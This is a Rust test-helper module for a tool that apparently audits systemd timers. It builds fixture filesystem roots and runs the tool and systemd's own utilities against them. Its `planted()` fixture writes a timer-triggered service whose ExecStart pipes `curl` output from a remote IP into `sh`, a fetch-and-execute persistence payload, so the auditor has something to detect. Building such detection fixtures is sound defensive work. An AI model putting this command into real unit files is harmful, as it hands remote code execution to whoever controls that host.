//! Fixture roots in temp dirs, built file by file, and helpers to run the collector, the
//! CLI, and systemd's own tools (as oracles) against them.

use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use timerguard::model::{Host, Scope, ScopeKind, Timer, Unit};

pub struct Fx {
    pub dir: tempfile::TempDir,
}

#[allow(dead_code)]
impl Fx {
    pub fn new() -> Fx {
        Fx { dir: tempfile::tempdir().expect("tempdir") }
    }

    pub fn path(&self) -> &Path {
        self.dir.path()
    }

    pub fn host_path(&self, p: &str) -> PathBuf {
        self.path().join(p.trim_start_matches('/'))
    }

    /// Writes a file (parents created), mode 0644.
    pub fn file(&self, p: &str, content: &str) -> &Self {
        self.bytes(p, content.as_bytes())
    }

    pub fn bytes(&self, p: &str, content: &[u8]) -> &Self {
        let hp = self.host_path(p);
        std::fs::create_dir_all(hp.parent().unwrap()).unwrap();
        std::fs::write(&hp, content).unwrap();
        std::fs::set_permissions(&hp, std::fs::Permissions::from_mode(0o644)).unwrap();
        self
    }

    pub fn mode(&self, p: &str, mode: u32) -> &Self {
        std::fs::set_permissions(self.host_path(p), std::fs::Permissions::from_mode(mode)).unwrap();
        self
    }

    /// lchown (the path itself, a link included).
    #[allow(dead_code)]
    pub fn owner(&self, p: &str, uid: u32, gid: u32) -> &Self {
        std::os::unix::fs::lchown(self.host_path(p), Some(uid), Some(gid)).unwrap();
        self
    }

    pub fn dir(&self, p: &str) -> &Self {
        std::fs::create_dir_all(self.host_path(p)).unwrap();
        self
    }

    /// Creates a symlink at `p` with the raw text `target`.
    pub fn link(&self, p: &str, target: &str) -> &Self {
        let hp = self.host_path(p);
        std::fs::create_dir_all(hp.parent().unwrap()).unwrap();
        symlink(target, &hp).unwrap();
        self
    }

    /// A minimal merged-/usr layout like Debian's (`/lib -> usr/lib`, `/etc/xdg/systemd/user
    /// -> ../../systemd/user`).
    pub fn debian_layout(&self) -> &Self {
        self.dir("/usr/lib/systemd/system").dir("/etc/systemd/system").dir("/etc/systemd/user");
        self.link("/lib", "usr/lib").link("/bin", "usr/bin").link("/etc/xdg/systemd/user", "../../systemd/user");
        self.file("/etc/machine-id", "6aef49f50614453386767d831f4f6ddf\n");
        self.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n").file("/etc/group", "root:x:0:\n")
    }

    pub fn collect(&self) -> Host {
        timerguard::collect::collect(self.path()).expect("collect")
    }

    /// `systemctl --root=R ARGS` stdout, or `None` when systemctl is not installed.
    pub fn systemctl(&self, args: &[&str]) -> Option<String> {
        let out =
            Command::new("systemctl").arg(format!("--root={}", self.path().display())).args(args).output().ok()?;
        Some(String::from_utf8_lossy(&out.stdout).into_owned())
    }

    /// `SYSTEMD_LOG_LEVEL=debug systemd-analyze verify --root=R UNIT`'s log (stderr): the
    /// name map, the aliases and every job the unit's start transaction installs.
    pub fn verify_log(&self, unit: &str) -> String {
        String::from_utf8_lossy(&self.verify(unit).stderr).into_owned()
    }

    /// The same log followed by the unit dump (stdout).
    pub fn verify_log_and_dump(&self, unit: &str) -> String {
        let out = self.verify(unit);
        format!("{}{}", String::from_utf8_lossy(&out.stderr), String::from_utf8_lossy(&out.stdout))
    }

    fn verify(&self, unit: &str) -> std::process::Output {
        Command::new("systemd-analyze")
            .env("SYSTEMD_LOG_LEVEL", "debug")
            .arg("verify")
            .arg(format!("--root={}", self.path().display()))
            .arg(unit)
            .output()
            .expect("systemd-analyze")
    }

    /// Runs the built binary with `--root` this fixture, killing it (and failing the
    /// test) if it is still running after `limit`: a guard against hangs, not a timing.
    pub fn cli_bounded(&self, args: &[&str], limit: std::time::Duration) -> std::process::Output {
        let mut child = Command::new(env!("CARGO_BIN_EXE_timerguard"))
            .arg("--root")
            .arg(self.path())
            .args(args)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("run timerguard");
        // Drain the pipes on threads so a large output cannot block the child.
        let mut so = child.stdout.take().unwrap();
        let mut se = child.stderr.take().unwrap();
        let t1 = std::thread::spawn(move || {
            let mut v = Vec::new();
            std::io::Read::read_to_end(&mut so, &mut v).ok();
            v
        });
        let t2 = std::thread::spawn(move || {
            let mut v = Vec::new();
            std::io::Read::read_to_end(&mut se, &mut v).ok();
            v
        });
        let start = std::time::Instant::now();
        let status = loop {
            if let Some(st) = child.try_wait().unwrap() {
                break st;
            }
            if start.elapsed() > limit {
                child.kill().ok();
                child.wait().ok();
                panic!("timerguard {args:?} still running after {limit:?}: a hang");
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        std::process::Output { status, stdout: t1.join().unwrap(), stderr: t2.join().unwrap() }
    }

    /// Runs the built binary with `--root` this fixture.
    pub fn cli(&self, args: &[&str]) -> std::process::Output {
        Command::new(env!("CARGO_BIN_EXE_timerguard"))
            .arg("--root")
            .arg(self.path())
            .args(args)
            .output()
            .expect("run timerguard")
    }
}

pub fn timer(cal: &str) -> String {
    format!("[Timer]\nOnCalendar={cal}\n\n[Install]\nWantedBy=timers.target\n")
}

pub fn service(exec: &str) -> String {
    format!("[Service]\nType=oneshot\nExecStart={exec}\n")
}

#[allow(dead_code)]
pub fn scope(h: &Host, kind: ScopeKind, user: Option<&str>) -> Scope {
    h.scopes
        .iter()
        .find(|s| s.kind == kind && s.user.as_deref() == user)
        .map(|s| Scope::clone(s))
        .unwrap_or_else(|| panic!("no scope {kind:?} {user:?}"))
}

#[allow(dead_code)]
pub fn system(h: &Host) -> Scope {
    scope(h, ScopeKind::System, None)
}

#[allow(dead_code)]
pub fn timer_of<'a>(s: &'a Scope, name: &str) -> &'a Timer {
    s.timers.iter().find(|t| t.name == name).unwrap_or_else(|| panic!("no timer {name} in {}", s.label()))
}

#[allow(dead_code)]
pub fn unit_of<'a>(s: &'a Scope, name: &str) -> &'a Unit {
    s.unit(name).unwrap_or_else(|| panic!("no unit {name} in {}", s.label()))
}

/// A test that cannot run here says so and returns — except where scripts/test.sh
/// promised everything (`TIMERGUARD_REQUIRE_ALL`, set under CI): there a missing tool or
/// root is a failure, so CI never passes by skipping.
#[allow(dead_code)]
pub fn skip(why: &str) {
    assert!(std::env::var_os("TIMERGUARD_REQUIRE_ALL").is_none(), "required by scripts/test.sh but missing: {why}");
    eprintln!("skipping: {why}");
}

/// The Python that has the test tools (scripts/test.sh's virtualenv), else `python3`.
#[allow(dead_code)]
pub fn python() -> String {
    std::env::var("TIMERGUARD_PYTHON").unwrap_or_else(|_| "python3".into())
}

/// True when the named systemd tool is installed (oracle tests skip otherwise, saying so).
#[allow(dead_code)]
pub fn have(tool: &str) -> bool {
    let ok = Command::new(tool).arg("--version").output().is_ok_and(|o| o.status.success());
    if !ok {
        skip(&format!("oracle {tool} not installed"));
    }
    ok
}

#[allow(dead_code)]
pub fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

/// `(name, state)` pairs of `systemctl list-unit-files` output, sorted.
#[allow(dead_code)]
pub fn parse_unit_files(out: &str) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = out
        .lines()
        .filter_map(|l| {
            let mut w = l.split_whitespace();
            Some((w.next()?.to_string(), w.next()?.to_string()))
        })
        .collect();
    v.sort();
    v
}

/// Our `unit_files` of a scope as `(name, state)` pairs.
#[allow(dead_code)]
pub fn our_unit_files(s: &Scope) -> Vec<(String, String)> {
    s.unit_files.iter().map(|(n, st)| (n.clone(), st.as_str().to_string())).collect()
}

/// A root with one critical payload timer, a world-writable unit and a lingering user.
#[allow(dead_code)]
pub fn planted() -> Fx {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
        .file("/etc/systemd/system/beacon.timer", "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n")
        .file(
            "/etc/systemd/system/beacon.service",
            "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/p | sh'\n",
        )
        .link("/etc/systemd/system/timers.target.wants/beacon.timer", "../beacon.timer")
        .file("/etc/systemd/system/report.timer", "[Timer]\nOnCalendar=daily\n")
        .mode("/etc/systemd/system/report.timer", 0o666)
        .file("/var/lib/systemd/linger/alice", "");
    fx
}

/// Every path under the root (but timerguard's own state dir) with kind, mode, owner,
/// link target and content hash: equal listings mean an untouched tree.
#[allow(dead_code)]
pub fn listing(root: &std::path::Path) -> std::collections::BTreeMap<String, String> {
    walkdir::WalkDir::new(root)
        .follow_links(false)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| !e.path().starts_with(root.join("var/lib/timerguard")))
        .map(|e| {
            let m = e.path().symlink_metadata().unwrap();
            let link = std::fs::read_link(e.path()).ok().map(|l| l.display().to_string()).unwrap_or_default();
            let hash = if m.is_file() {
                timerguard::remedy::fsops::hash(&std::fs::read(e.path()).unwrap())
            } else {
                String::new()
            };
            let kind = if m.is_symlink() {
                "l"
            } else if m.is_dir() {
                "d"
            } else {
                "f"
            };
            let rel = e.path().strip_prefix(root).unwrap().display().to_string();
            (rel, format!("{kind} {:o} {}:{} {link} {hash}", m.mode() & 0o7777, m.uid(), m.gid()))
        })
        .collect()
}

/// `(policy, rule, subject)` of every finding of a JSON report, in report order.
#[allow(dead_code)]
pub fn policy_rule_subject(report: &serde_json::Value) -> Vec<(String, String, String)> {
    let field = |f: &serde_json::Value, k: &str| f[k].as_str().unwrap_or_default().to_string();
    let all = report["findings"].as_array().expect("a findings array");
    all.iter().map(|f| (field(f, "policy"), field(f, "rule"), field(f, "subject"))).collect()
}

/// A small deterministic generator (xorshift): the same layouts on every run.
pub struct Rng(pub u64);

/// The generator and case count of a random differential test: its own, or
/// `TG_SEED=N TG_CASES=M` for a longer run by hand.
pub fn random_run(seed: u64, cases: usize) -> (Rng, usize) {
    let env = |k: &str| std::env::var(k).ok().and_then(|v| v.parse::<u64>().ok());
    let cases = env("TG_CASES").map_or(cases, |c| usize::try_from(c).unwrap_or(cases));
    (Rng(env("TG_SEED").unwrap_or(seed)), cases)
}

impl Rng {
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    pub fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % n as u64).unwrap()
    }
    pub fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[self.below(v.len())]
    }
    pub fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
}
